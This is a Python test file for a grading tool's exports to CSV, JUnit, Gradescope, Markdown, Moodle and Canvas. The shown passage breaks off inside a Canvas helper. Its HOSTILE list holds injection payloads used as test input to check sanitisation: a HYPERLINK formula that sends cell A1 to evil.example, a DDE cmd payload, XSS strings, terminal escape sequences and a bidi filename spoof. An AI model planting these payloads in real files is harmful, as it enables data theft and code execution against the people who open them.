"""Points, and the files for other systems: a little class, its golden files, and how those systems read them.

python -m tests.kit.test_gradebook      writes the golden files anew, to be looked at in the difference
"""

import csv
import io
import json
import re
import unicodedata
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from xml.etree import ElementTree as Xml

import pytest
from markdown_it import MarkdownIt

from grader import words
from grader.classroom.course import NOT_FOR_CANVAS, Canvas, Course, Csv, Late, Moodle, read_course
from grader.classroom.exports import canvas, gradescope, junit, markdown, moodle, safe, table
from grader.classroom.rows import GRADED, UNGRADED, UNREADABLE, Row, Student
from grader.classroom.scores import lateness, score, standing
from grader.lessons import Lesson, WrongUse
from grader.transcript import BIDI_AND_CONTROL

GOLDEN = Path(__file__).parent / "golden" / "gradebook"
FORMS = {
    "gradebook.csv": table,
    "junit.xml": junit,
    "gradescope": gradescope,
    "summary.md": markdown,
    "moodle.csv": moodle,
    "canvas.csv": canvas,
}
DUE = datetime.fromisoformat("2026-12-01T23:59:00+03:00")


@dataclass(frozen=True)
class Small:
    """A lesson of so many checks; the real ones may get more, and then the golden files would change."""

    number: str
    count: int = 4

    def stories(self):
        return {f"check_{n}": "…" for n in range(self.count)}


LESSONS = [Small("01"), Small("03", 3)]
COURSE = Course(
    "Сети, осень 2026",
    weights={"03": Fraction(2)},
    checks={"03": {2: Fraction(2)}},
    late=Late(DUE, timedelta(minutes=10), Fraction(10), Fraction(50)),
    canvas=Canvas("Chat (1234)"),
)

# Each would do harm in one of the forms, if it came there as it is.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "  @SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+2",
    "x;=1+2",
    'x;"=1+2',
    'x",=1+2,"\\',
    "<script>alert(1)</script>",
    "</failure><testcase name='x'/>]]>&lt;b&gt;",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07 \x9b31m",
    "user\u202etxt.exe \u2066\u200b\ufeff\x00\x7f\x85\u2028",
    "\ud800 \ufffe \uffff",
    "line one\r\nline two\n=3",
    "`code` | pipe | **bold** [link](javascript:alert(1)) ![i](http://evil.example/x.png)",
    "@octocat see #123 and http://evil.example www.evil.example",
    "a\\",
    "\\|`<img src=x onerror=alert(1)>",
    "    Points Possible",
    "passed",
    "z" * 5000,
)


def check(number, verdict="passed", headline="", *detail, sentence=""):
    failure = {"kind": "silent", "headline": headline, "detail": list(detail)} if headline else None
    sentence = sentence or f"Sentence {number} of the lesson"
    return {
        "number": number,
        "sentence": sentence,
        "verdict": verdict,
        "milliseconds": 12.5,
        "failure": failure,
    }


def results(lesson, verdicts):
    """`verdicts` has a letter for each check."""
    kinds = {"p": "passed", "f": "failed", "?": "inconclusive", "-": "not run", "!": "broken"}
    said = {"f": "Bob heard nothing.", "?": "This machine is too busy.", "!": "Our bug, not yours."}
    made = [check(n, kinds[letter], said.get(letter, "")) for n, letter in enumerate(verdicts, 1)]
    return {"lesson": lesson, "checks": made}


def row(key, *verdicts, state=GRADED, reason="", submitted="2026-12-01T20:00:00+00:00", **who):
    lessons = [results(lesson.number, said) for lesson, said in zip(LESSONS, verdicts, strict=False)]
    return Row(Student(key, **who), state, reason, lessons, submitted, seconds=1.25)


def hostile(number, text):
    """A row with this text wherever a student could have put it."""
    student = Student(f"hostile-{number:02}", text, text, text, {"SIS Login ID": text, text: text})
    checks = [check(n, "failed", text, text, text, sentence=text) for n in range(1, 5)]
    return Row(student, GRADED, text, [{"lesson": "01", "checks": checks}], text, seconds=1.25)


FEW = (HOSTILE[0], HOSTILE[8], HOSTILE[10], HOSTILE[13])  # those of the golden files


def the_class(texts=HOSTILE):
    known = [
        row("alisa", "pppp", "ppp", name="Алиса Громова", email="alisa@example.org", number="1001"),
        row("boris", "ppff", name="Борис «Боб» О'Нил", email="boris@example.org", number="1002"),
        row("vera", "pppp", "pf-", name="Вера", email="vera@example.org", number="1003", submitted=""),
        row("gleb", state=UNREADABLE, reason="No archive: =cmd", email="gleb@example.org", number="1004"),
        row("darya", "pppp", "p?p", name="Дарья", email="darya@example.org", number="1005"),
        row("egor", "pp!p", "ppp", name="Егор", email="egor@example.org", number="1006"),
        row("zhanna", "pppp", "pfp", name="Жанна", email="zhanna@example.org", number="1007"),
        row(
            "zakhar",
            state=UNGRADED,
            reason="Killed three workers.",
            email="zakhar@example.org",
            number="1008",
        ),
        row("twin-1", "pppp", "ppp", name="One", email="twin@example.org", number="1009"),
        row("twin-2", "ffff", "fff", name="Other", email="TWIN@example.org", number="1009"),
        row("nobody", "pppp", "ppp", name="Алиса Громова"),
    ]
    known[6].submitted = "2026-12-03T00:09:00.000001+03:00"
    return known + [hostile(number, text) for number, text in enumerate(texts)]


def written(folder, rows, course=COURSE, lessons=LESSONS):
    """Writes all forms; what each left out, by its name."""
    return {name: form.write(rows, course, lessons, folder / name) for name, form in FORMS.items()}


def files(folder):
    """The bytes of all files, by their paths in the folder."""
    inside = [path for path in sorted(folder.rglob("*")) if path.is_file() and path.name != ".gitattributes"]
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in inside}


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    folder = tmp_path_factory.mktemp("gradebook")
    written(folder, the_class())
    return folder


def scored(verdicts_of_01, verdicts_of_03=None, course=None, **more):
    said = [verdicts for verdicts in (verdicts_of_01, verdicts_of_03) if verdicts is not None]
    return score(row("one", *said, **more), course or Course(), LESSONS)


# Points


def test_all_checks_bring_all_points_and_half_of_one_lesson_a_quarter():
    assert scored("pppp", "ppp").points == 100
    assert scored("ppff", "fff").points == 25
    assert scored("ppff", "fff").of == 100


def test_a_lesson_that_was_not_handed_in_brings_nothing_but_is_worth_as_much():
    got = scored("pppp")
    assert got.points == 50
    assert [(part.points, part.of, part.passed, part.checks, part.is_there) for part in got.parts] == [
        (50, 50, 4, 4, True),
        (0, 50, 0, 3, False),
    ]


def test_a_check_that_was_not_run_counts_as_one_that_failed():
    assert scored("p---", "ppp").points == scored("pfff", "ppp").points == Decimal("62.50")


def test_lessons_and_checks_have_their_weights():
    got = scored("pppp", "pfp", COURSE)
    assert [part.of for part in got.parts] == [Decimal("33.33"), Decimal("66.67")]
    assert [part.points for part in got.parts] == [Decimal("33.33"), Decimal("33.33")]
    assert got.parts[1].worth == {1: Decimal("16.67"), 2: Decimal("33.33"), 3: Decimal("16.67")}
    assert got.points == Decimal("66.67")  # of the fractions, not of the rounded parts


def test_a_lesson_of_weight_zero_does_not_count():
    course = Course(weights={"01": Fraction(0)})
    assert scored("ffff", "ppp", course).points == 100


def test_a_half_is_rounded_upwards():
    course = Course(points=Fraction(1), weights={"03": Fraction(0)}, checks={"01": {1: Fraction(1)}})
    eighth = Course(points=Fraction(5, 100), weights={"03": Fraction(0)})
    assert scored("pfff", course=course).points == Decimal("0.25")
    assert scored("ppff", course=eighth).points == Decimal("0.03")  # 0.025


@pytest.mark.parametrize("verdicts", ["ppp?", "ppp!", "fff?"])
def test_what_could_not_be_told_has_no_points(verdicts):
    got = scored(verdicts, "ppp")
    assert got.points is None
    assert got.parts == ()
    assert "01.4" in got.reason
    assert standing(row("one", verdicts), got) == "could not tell"


def test_what_could_not_be_told_in_a_lesson_that_nobody_asked_for_is_no_matter():
    assert score(row("one", "pppp", "??p"), Course(), LESSONS[:1]).points == 100


def test_what_cannot_be_read_is_zero_with_its_reason_and_what_was_not_graded_is_nothing():
    unread = score(row("one", state=UNREADABLE, reason="It is empty."), COURSE, LESSONS)
    assert (unread.points, unread.reason, unread.late) == (0, "It is empty.", "")
    ungraded = score(row("one", state=UNGRADED), COURSE, LESSONS)
    assert (ungraded.points, ungraded.reason) == (None, "It was not graded.")


def test_the_same_two_decimals_are_always_there():
    assert [str(scored(verdicts, "fff").points) for verdicts in ("ffff", "pppp", "pfff")] == [
        "0.00",
        "50.00",
        "12.50",
    ]


# Lateness

END = DUE + timedelta(minutes=10)


@pytest.mark.parametrize(
    ("after", "off"),
    [
        (timedelta(days=-300), 0),
        (timedelta(minutes=-10), 0),
        (timedelta(0), 0),
        (timedelta(microseconds=1), 10),
        (timedelta(days=1), 10),
        (timedelta(days=1, microseconds=1), 20),
        (timedelta(days=4, hours=1), 50),
        (timedelta(days=400), 50),
    ],
)
def test_each_day_begun_after_the_grace_counts_up_to_the_most(after, off):
    got, sentence = lateness((END + after).isoformat(), COURSE.late)
    assert got == off
    assert bool(sentence) == bool(off)


def test_times_are_compared_as_moments():
    for zone in (UTC, DUE.tzinfo):
        assert lateness(END.astimezone(zone).isoformat(), COURSE.late)[0] == 0
        assert lateness((END + timedelta(seconds=1)).astimezone(zone).isoformat(), COURSE.late)[0] == 10
    assert lateness("2026-12-01T21:09:00Z", COURSE.late)[0] == 0
    assert lateness("2026-12-01T21:09:01Z", COURSE.late)[0] == 10


@pytest.mark.parametrize("submitted", ["", "yesterday", "2027-01-01", "2027-01-01T00:00:00", "\x1b[2J"])
def test_a_time_that_nobody_knows_is_not_late_and_it_is_said(submitted):
    off, sentence = lateness(submitted, COURSE.late)
    assert off == 0
    assert sentence == "Nobody knows when it was handed in: it is not counted as late."


def test_without_a_due_time_nothing_is_late_or_said():
    assert lateness("2099-01-01T00:00:00Z", Late()) == (0, "")


def test_lateness_takes_of_what_was_reached():
    got = scored("pppp", "ppp", COURSE, submitted="2026-12-04T12:00:00+03:00")
    assert (got.points, got.late) == (70, "3 days late: 30 % taken off.")
    assert scored("ppff", course=COURSE, submitted="2027-12-04T12:00:00Z").points == Decimal("8.33")


def test_what_lateness_took_is_told_in_the_readers_language():
    words.use("ru")
    try:
        assert words.told(scored("pppp", course=COURSE, submitted="").late)
    finally:
        words.use("en")


# course.toml


def course_of(tmp_path, text, lessons=()):
    file = tmp_path / "course.toml"
    file.write_text(text, "utf-8")
    return read_course(file, lessons)


def test_without_a_file_or_with_an_empty_one_there_are_no_rules(tmp_path):
    assert read_course() == course_of(tmp_path, "") == Course()
    assert Course().points == 100


def test_every_key_is_read(tmp_path):
    course = course_of(
        tmp_path,
        """
        title = "Сети"
        points = 12.5
        [weights]
        "01" = 1
        "03" = 0.1
        [checks."03"]
        6 = 2
        [late]
        due = 2026-12-01T23:59:00+03:00
        grace = "10 min"
        per_day = 12.5
        at_most = 50
        [csv]
        delimiter = ";"
        decimal = ","
        [moodle]
        worksheet = true
        match = "number"
        participant = "Участник"
        [canvas]
        assignment = "Chat (1234)"
        number = "SIS Login ID"
        """,
    )
    late = Late(DUE, timedelta(minutes=10), Fraction(25, 2), Fraction(50))
    assert course == Course(
        "Сети",
        Fraction(25, 2),
        {"01": Fraction(1), "03": Fraction(1, 10)},
        {"03": {6: Fraction(2)}},
        late,
        Csv(";", ","),
        Moodle(True, "number", participant="Участник"),
        Canvas("Chat (1234)", "SIS Login ID"),
    )
    assert course.late.due == DUE


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("points = 0", "points must be a number from 0.01 to 1000000."),
        ("points = true", "points must be a number from 0.01 to 1000000."),
        ("points = nan", "points must be a number from 0.01 to 1000000."),
        ("points = inf", "points must be a number from 0.01 to 1000000."),
        ("points = 1e999999999", "points must be a number from 0.01 to 1000000."),
        ('points = "100"', "points must be a number from 0.01 to 1000000."),
        ("[weights]\n03 = -1", "weights.03 must be a number from 0 to 1000000."),
        ("[weights]\n03 = 1e-999999999", "weights.03 must be a number from 0 to 1000000."),
        ("[weights]\n3 = 1", "There is no key weights.3. There are 01, 02, 03, 04, 05, 06, 07, 08, 09, 10."),
        ("weights = 3", "weights must be a table."),
        ("[checks]\n03 = 3", "checks.03 must be a table."),
        ("[late]\ndue = 2026-12-01", "late.due must be a time with its offset from UTC, such as "),
        ("[late]\ndue = 2026-12-01T10:00:00", "late.due must be a time with its offset from UTC, such as "),
        ("[late]\ngrace = 10", 'late.grace must be a number and s, min, h or days, such as "10 min".'),
        ("[late]\ngrace = '-1 h'", 'late.grace must be a number and s, min, h or days, such as "10 min".'),
        ("[late]\nper_day = 101", "late.per_day must be a number from 0 to 100."),
        ("[late]\nper_week = 1", "There is no key late.per_week. There are due, grace, per_day, at_most."),
        ("title = 3", "title must be a text of one line."),
        ('title = "a\\nb"', "title must be a text of one line."),
        ('title = "a\\u202eb"', "title must be a text of one line."),
        ('[csv]\ndelimiter = "|"', 'csv.delimiter must be one of ",", ";".'),
        ("[csv]\ndelimiter = [1]", 'csv.delimiter must be one of ",", ";".'),
        ("[moodle]\nworksheet = 1", "moodle.worksheet must be true or false."),
        (
            '[canvas]\nassignment = "Final Grade (1)"',
            "Canvas leaves out a column with “Final Grade” in its name: canvas.assignment.",
        ),
        ("pionts = 3", "There is no key pionts. There are title, points, weights, "),
        ('"\\u001b[2J" = 3', "There is no key \\x1b[2J. There are title, "),
        ("points 3", "It is not TOML: "),
    ],
)
def test_what_cannot_be_meant_is_wrong_use_in_one_sentence(tmp_path, text, said):
    with pytest.raises(WrongUse) as wrong:
        course_of(tmp_path, text)
    assert str(wrong.value).startswith(f"{tmp_path / 'course.toml'}: {said}")
    assert len(str(wrong.value).splitlines()) == 1


def test_a_number_that_is_zero_in_a_long_way_is_zero(tmp_path):
    assert course_of(tmp_path, '[weights]\n"03" = 0e999999999').weight("03") == 0


def test_a_file_that_is_not_there_or_not_in_utf_8_is_wrong_use(tmp_path):
    with pytest.raises(WrongUse, match="cannot be read: No such file"):
        read_course(tmp_path / "course.toml")
    (tmp_path / "course.toml").write_bytes('title = "Сети"'.encode("cp1251"))
    with pytest.raises(WrongUse, match="not written in UTF-8"):
        read_course(tmp_path / "course.toml")


def test_a_byte_order_mark_is_no_matter(tmp_path):
    (tmp_path / "course.toml").write_bytes('title = "Сети"'.encode("utf-8-sig"))
    assert read_course(tmp_path / "course.toml").title == "Сети"


def test_weights_that_are_all_zero_are_wrong_use_before_anything_is_graded(tmp_path):
    with pytest.raises(WrongUse, match="No lesson that is graded has a weight"):
        course_of(tmp_path, '[weights]\n"03" = 0', [Lesson("03")])
    assert course_of(tmp_path, '[weights]\n"03" = 0', [Lesson("01"), Lesson("03")])


def test_checks_that_are_not_there_or_all_zero_are_wrong_use(tmp_path):
    count = len(Lesson("03").stories())
    with pytest.raises(WrongUse, match=f"no key checks.03.{count + 1}. There are 1, 2, "):
        course_of(tmp_path, f'[checks."03"]\n{count + 1} = 1')
    with pytest.raises(WrongUse, match=r"The weights of all checks in checks\.03 are zero"):
        course_of(tmp_path, '[checks."03"]\n' + "\n".join(f"{n} = 0" for n in range(1, count + 1)))


# Golden files


def test_the_files_are_the_golden_ones_byte_for_byte(tmp_path):
    written(tmp_path, the_class(FEW))
    made, golden = files(tmp_path), files(GOLDEN)
    assert sorted(made) == sorted(golden)
    for name, data in made.items():
        assert data == golden[name], name


def test_it_makes_no_difference_how_often_they_are_written(out, tmp_path):
    written(tmp_path, the_class())
    written(tmp_path, the_class())
    assert files(tmp_path) == files(out)


def test_a_file_that_cannot_be_written_is_wrong_use_and_leaves_nothing(tmp_path):
    (tmp_path / "junit.xml").mkdir()
    for path in (tmp_path / "junit.xml", tmp_path / "no folder" / "junit.xml"):
        with pytest.raises(WrongUse, match=r"cannot be written"):
            junit.write(the_class(), COURSE, LESSONS, path)
    assert [path.name for path in tmp_path.iterdir()] == ["junit.xml"]


# Nothing in them is a student's but text


def test_no_export_contains_a_character_that_controls_or_hides(out):
    for name, data in files(out).items():
        text = data.decode("utf-8").removeprefix("\ufeff")
        if name.endswith(".csv"):
            text = text.replace("\r\n", "\n")
        odd = {char for char in text if unicodedata.category(char) in BIDI_AND_CONTROL} - {"\n"}
        assert not odd, (name, odd)
        assert "\ufeff" not in text, name


def test_no_long_text_comes_whole_and_what_is_cut_says_so(out):
    for name, data in files(out).items():
        assert b"z" * 501 not in data, name
    assert "… (5000 characters)" in (out / "gradebook.csv").read_text("utf-8")


@pytest.mark.parametrize("name", ["gradebook.csv", "moodle.csv", "canvas.csv"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whichever_delimiter_the_spreadsheet_expects(out, name, delimiter):
    text = (out / name).read_text("utf-8-sig")
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in line:
            first = unicodedata.normalize("NFKC", cell.lstrip(' "'))[:1]
            assert first not in tuple("=+-@\t\r\n") or cell == "-", cell


def test_a_cell_that_is_no_formula_stays_as_it_is():
    for text in ("Борис «Боб» О'Нил", "a@b.org", "2026-12-01T20:00:00+00:00", "x = 1", "'=1", "1-2"):
        assert safe.cell(text) == text


def test_no_student_is_renamed_in_translation():
    words.use("ru")
    try:
        assert safe.safe("passed") == "passed"
        assert safe.safe(words._("{passed} of {all}", passed=1, all=2)) == "1 из 2"
    finally:
        words.use("en")


# CSV


def test_the_table_has_everyone_and_those_without_points_at_the_end(out):
    data = (out / "gradebook.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # for Excel
    assert data.count(b"\n") == data.count(b"\r\n")  # RFC 4180, 2.1
    lines = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
    assert len(lines) == len(the_class())
    assert all(None not in line and None not in line.values() for line in lines)
    apart = [(line["key"], line["state"], line["points"]) for line in lines][-3:]
    assert apart == [
        ("darya", "could not tell", ""),
        ("egor", "could not tell", ""),
        ("zakhar", "not graded", ""),
    ]
    points = {line["key"]: line["points"] for line in lines}
    assert points["alisa"] == "100.00"
    assert points["boris"] == "16.67"
    assert points["gleb"] == "0.00"
    assert points["zhanna"] == "53.33"  # 66.67 less 20 %, for it is 24 hours and a microsecond late


def test_the_table_is_written_as_the_spreadsheet_expects(tmp_path):
    table.write(the_class(), Course(csv=Csv(";", ",")), LESSONS, tmp_path / "table.csv")
    text = (tmp_path / "table.csv").read_text("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert [(line["key"], line["points"]) for line in lines[:2]] == [("alisa", "100,00"), ("boris", "25,00")]


# JUnit

XSD = {  # junit-10.xsd of jenkinsci/xunit-plugin: attributes (the required ones marked) and elements inside
    "testsuites": ("name time tests failures errors", "testsuite"),
    "testsuite": (
        "name! tests! failures! errors! group time skipped timestamp hostname id package file log url",
        "testsuite properties testcase system-out system-err",
    ),
    "properties": ("", "property"),
    "property": ("name! value!", ""),
    "testcase": (
        "name! time classname group",
        "skipped error failure rerunFailure rerunError flakyFailure flakyError system-out system-err",
    ),
    "failure": ("type message", ""),
    "error": ("type message", ""),
    "skipped": ("type message", ""),
}


def check_by_schema(element):
    attributes, inside = XSD[element.tag]
    assert set(element.attrib) <= set(attributes.replace("!", "").split())
    assert set(element.attrib) >= {name[:-1] for name in attributes.split() if name.endswith("!")}
    if "time" in element.attrib:
        assert re.fullmatch(r"(([0-9]{0,3},)*[0-9]{3}|[0-9]{0,3})*(\.[0-9]*)?", element.get("time"))
    for child in element:
        assert child.tag in inside.split()
        check_by_schema(child)


def test_junit_is_by_the_schema_and_has_a_suite_for_each_student(out):
    root = Xml.parse(out / "junit.xml").getroot()
    check_by_schema(root)
    assert [suite.get("name") for suite in root] == [one.student.key for one in the_class()]
    for suite in root:
        for attribute, tag in junit.COUNTED.items():
            assert int(suite.get(attribute)) == len(list(suite.iter(tag)))


def test_gitlab_tells_all_cases_apart_and_reads_why(out):
    """It goes by classname and name, and shows an element's text and no message."""
    cases = list(Xml.parse(out / "junit.xml").getroot().iter("testcase"))
    assert len({(case.get("classname"), case.get("name")) for case in cases}) == len(cases)
    for verdict in (child for case in cases for child in case):
        assert verdict.text.partition("\n")[0] == verdict.get("message") != ""


def test_junit_shows_each_verdict_as_what_it_is(out):
    suites = {suite.get("name"): suite for suite in Xml.parse(out / "junit.xml").getroot()}
    tags = {key: [[child.tag for child in case] for case in suites[key].iter("testcase")] for key in suites}
    assert tags["alisa"] == [[]] * 7
    assert tags["boris"] == [[], [], ["failure"], ["failure"], ["failure"]]  # and a lesson that is missing
    assert tags["vera"][-2:] == [["failure"], ["failure"]]  # one failed, one was not run
    assert tags["gleb"] == [["failure"]]
    assert tags["darya"][5] == ["skipped"]
    assert tags["egor"][2] == ["error"]
    assert tags["zakhar"] == [["skipped"]]
    assert suites["gleb"].find("testcase/failure").get("message") == "No archive: =cmd"
    assert suites["vera"].findall("testcase/failure")[-1].get("message") == "It was not run."


# Gradescope

FORMATS = {"text", "html", "simple_format", "md", "ansi"}
VISIBILITY = {"hidden", "after_due_date", "after_published", "visible"}
NUMBER = (int, float)
TOP = {  # Autograder Specifications, Output format
    "score": NUMBER,
    "execution_time": NUMBER,
    "output": str,
    "output_format": FORMATS,
    "test_output_format": FORMATS,
    "test_name_format": FORMATS,
    "visibility": VISIBILITY,
    "stdout_visibility": VISIBILITY,
    "extra_data": dict,
    "tests": list,
    "leaderboard": list,
}
TEST = {
    "score": NUMBER,
    "max_score": NUMBER,
    "status": {"passed", "failed"},
    "name": str,
    "name_format": FORMATS,
    "number": str,
    "output": str,
    "output_format": FORMATS,
    "tags": list,
    "visibility": VISIBILITY,
    "extra_data": dict,
}


def check_by_table(found, known):
    for key, value in found.items():
        kind = known[key]
        assert value in kind if isinstance(kind, set) else isinstance(value, kind), key


def test_gradescope_is_by_the_specification(out):
    for path in (out / "gradescope").iterdir():
        found = json.loads(path.read_bytes())
        check_by_table(found, TOP)
        assert "score" in found
        for test in found["tests"]:
            check_by_table(test, TEST)
            assert 0 <= test["score"] <= test["max_score"]


def test_gradescope_gets_a_file_for_each_row_that_has_points(out, tmp_path):
    found = {path.stem: json.loads(path.read_bytes()) for path in (out / "gradescope").iterdir()}
    assert set(found) == {one.student.key for one in the_class()} - {"darya", "egor", "zakhar"}
    assert found["alisa"]["score"] == 100
    assert found["zhanna"]["score"] == 53.33
    assert found["zhanna"]["output"] == "2 days late: 20 % taken off."
    assert [test["number"] for test in found["boris"]["tests"]] == ["01.1", "01.2", "01.3", "01.4", "03"]
    assert found["boris"]["tests"][-1]["max_score"] == 66.67
    assert found["gleb"]["score"] == 0


def test_gradescope_loses_an_earlier_file_of_a_row_that_has_no_points_now(tmp_path):
    gradescope.write([row("one", "pppp")], COURSE, LESSONS, tmp_path / "out")
    left = gradescope.write([row("one", "ppp?")], COURSE, LESSONS, tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []
    assert [(one.student.key, why) for one, why in left] == [("one", "These checks could not be told: 01.4.")]


# Markdown


def rendered(text):
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_markdown_has_no_element_link_or_mention_of_a_students(out):
    """By CommonMark with tables, and HTML allowed, as on GitHub."""
    page = rendered((out / "summary.md").read_text("utf-8"))
    assert set(re.findall(r"<(\w+)", page)) == {
        "h1",
        "p",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "code",
    }
    outside = re.sub(r"<code>.*?</code>", "", page, flags=re.S)
    for sign in ("@", "#", "evil", "javascript"):
        assert sign not in outside, sign


def test_each_table_of_the_page_has_the_same_cells_in_every_line(out):
    tables = rendered((out / "summary.md").read_text("utf-8")).split("<table>")[1:]
    rows = [re.findall(r"<tr>(.*?)</tr>", one, re.S) for one in tables]
    widths = [{len(re.findall(r"<t[hd]", line)) for line in lines} for lines in rows]
    assert widths == [{2}, {6}]
    assert [len(lines) - 1 for lines in rows] == [3, len(the_class()) - 3]


def test_every_hostile_text_stays_in_its_cell(tmp_path):
    rows = [row(f"r{n}", state=UNREADABLE, reason=text) for n, text in enumerate(HOSTILE)]
    markdown.write(rows, COURSE, LESSONS, tmp_path / "summary.md")
    page = rendered((tmp_path / "summary.md").read_text("utf-8"))
    lines = re.findall(r"<tr>(.*?)</tr>", page, re.S)[1:]
    assert [len(re.findall("<td>", line)) for line in lines] == [6] * len(HOSTILE)
    assert all(line.rstrip().endswith("</code></td>") for line in lines)
    assert page.count("<code>") == 2 * len(HOSTILE)


def test_a_title_is_text(tmp_path):
    title = "A_b_c #1 <b>*bold*</b> [x](y) `z` | end"
    markdown.write([], Course(title), LESSONS, tmp_path / "summary.md")
    page = rendered((tmp_path / "summary.md").read_text("utf-8"))
    assert "<h1>A_b_c #1 &lt;b&gt;*bold*&lt;/b&gt; [x](y) `z` | end</h1>" in page


def test_a_summary_never_has_more_bytes_than_github_takes(tmp_path):
    rows = [row(f"студент-{n:05}", state=UNREADABLE, reason="Ж" * 490) for n in range(1200)]
    markdown.write(rows, COURSE, LESSONS, tmp_path / "summary.md")
    data = (tmp_path / "summary.md").read_bytes()
    assert markdown.LIMIT - 2000 < len(data) <= markdown.LIMIT == 1024 * 1024
    shown = data.decode().count("студент-")
    assert data.decode().endswith(f"\n\n{1200 - shown} lines more have no room here.\n")


@pytest.mark.parametrize("limit", range(300, 700, 7))
def test_what_has_no_room_is_counted_within_the_limit(limit):
    lines = [f"| {n} |" for n in range(1000, 1100)]
    text = markdown.fitting(lines, limit)
    assert len(text.encode()) <= limit
    shown = text.splitlines()[:-2]
    assert shown == lines[: len(shown)]
    assert text.endswith(f"\n\n{100 - len(shown)} lines more have no room here.\n")


def test_no_name_and_no_address_stands_in_the_summary(out):
    text = (out / "summary.md").read_text("utf-8")
    assert "alisa" in text
    assert "Алиса" not in text
    assert "@example.org" not in text


# Moodle


def moodle_import(data, accounts, column):
    """The grades after an import into the gradebook, as load_data.php makes it: one unknown ends it."""
    text = data.decode("utf-8").removeprefix("\ufeff")
    head, *lines = php_csv(text)
    at, grade, student, grades = head.index(column), head.index("Grade"), None, {}
    for line in lines:
        assert len(line) == len(head)  # or else: csvweirdcolumns
        if line[at]:
            student = accounts[line[at].casefold()]
        assert line[grade] not in ("", "-")
        grades[student] = float(line[grade])
    return grades


def php_csv(text):
    """As fgetcsv reads it: a quote after a backslash does not end the cell."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True, escapechar="\\", doublequote=True))


def test_moodles_gradebook_gives_each_student_his_own_points(out):
    accounts = {f"{name}@example.org": name for name in "alisa boris vera gleb zhanna".split()}
    grades = moodle_import((out / "moodle.csv").read_bytes(), accounts, "Email address")
    assert grades == {"alisa": 100.0, "boris": 16.67, "vera": 50.0, "gleb": 0.0, "zhanna": 53.33}


def test_moodle_gets_nobody_whom_it_could_take_for_another(tmp_path):
    left = moodle.write(the_class(()), COURSE, LESSONS, tmp_path / "moodle.csv")
    assert {one.student.key: why for one, why in left} == {
        "darya": "These checks could not be told: 03.2.",
        "egor": "The checker itself failed in 01.3.",
        "zakhar": "Killed three workers.",
        "twin-1": "Another student has the same twin@example.org.",
        "twin-2": "Another student has the same TWIN@example.org.",
        "nobody": "Nothing usable is known by which the student would be found there.",
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_moves_a_cell_of_moodles(tmp_path, text):
    rows = [hostile(1, text), row("one", "pppp", "ppp", name=text, email="one@example.org")]
    rows[0].student.email = "hostile@example.org"
    rows += [row("two", state=UNREADABLE, reason=text, email="two@example.org", name=text)]
    moodle.write(rows, COURSE, LESSONS, tmp_path / "moodle.csv")
    data = (tmp_path / "moodle.csv").read_bytes()
    accounts = {f"{name}@example.org": name for name in ("hostile", "one", "two")}
    assert moodle_import(data, accounts, "Email address") == {"hostile": 0.0, "one": 100.0, "two": 0.0}
    assert b"\\" not in data
    feedback = php_csv(data.decode())[-1][-1]
    assert not set("<>") & set(feedback)


@pytest.mark.parametrize("email", ["+one@example.org", "@example.org", "a b@example.org", "one", 'a"@b.org'])
def test_an_address_that_would_not_come_there_as_it_is_finds_nobody(tmp_path, email):
    left = moodle.write([row("one", "pppp", email=email)], COURSE, LESSONS, tmp_path / "moodle.csv")
    assert [one.student.key for one, _why in left] == ["one"]
    assert (tmp_path / "moodle.csv").read_text("utf-8").count("\n") == 1


def test_moodle_finds_students_by_number_if_the_course_says_so(tmp_path):
    course = Course(moodle=Moodle(match="number"))
    moodle.write([row("one", "pppp", number="0017")], course, LESSONS, tmp_path / "moodle.csv")
    assert (tmp_path / "moodle.csv").read_text("utf-8").splitlines() == [
        "ID number,Full name,Grade,Feedback comments",
        "0017,,50.00,Lesson 01: 4 of 4 checks. Lesson 03: 0 of 3 checks.",
    ]


WORKSHEET = Moodle(worksheet=True)


def test_a_moodle_worksheet_has_the_columns_that_it_must_have(tmp_path):
    """importgradeslib.php: Identifier, Grade and Last modified (grade); one is called `Participant 123`."""
    rows = [
        row("one", "pppp", number="9", ids={"participant": "123"}),
        row("two", "pppp", number="124"),  # which is not the participant's
        row("three", "pp?p", ids={"participant": "125"}),
        row("four", "ffff", ids={" Participant": "126 "}),
        row("five", "ffff", ids={"participant": "12x"}),
    ]
    left = moodle.write(rows, Course(moodle=WORKSHEET), LESSONS, tmp_path / "sheet.csv")
    head, *lines = php_csv((tmp_path / "sheet.csv").read_text("utf-8"))
    found = [dict(zip(head, line, strict=True)) for line in lines]
    assert {"Identifier", "Grade", "Last modified (grade)"} <= set(head)
    assert [(one["Identifier"], one["Grade"]) for one in found] == [
        ("Participant 123", "50.00"),
        ("Participant 126", "0.00"),
    ]
    assert [one.student.key for one, _why in left] == ["two", "three", "five"]


def test_a_moodle_worksheet_has_the_words_of_the_teachers_language(tmp_path):
    names = Moodle(True, identifier="Идентификатор", participant="Участник", grade="Оценка")
    rows = [row("one", "pppp", ids={"participant": "123"})]
    moodle.write(rows, Course(moodle=names), LESSONS, tmp_path / "sheet.csv")
    head, line = php_csv((tmp_path / "sheet.csv").read_text("utf-8"))
    assert (head[0], head[2], line[0]) == ("Идентификатор", "Оценка", "Участник123")


# Canvas


def canvas_import(text):
    """What gradebook_importer.rb makes of the file: points possible, and the points by the students' ids."""
    head, *lines = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert "Student" in head[0] and "ID" in head[1]
    assert re.search(r"SIS\s+User\s+ID", head[2]) and re.search(r"SIS\s+Login\s+ID", head[3])
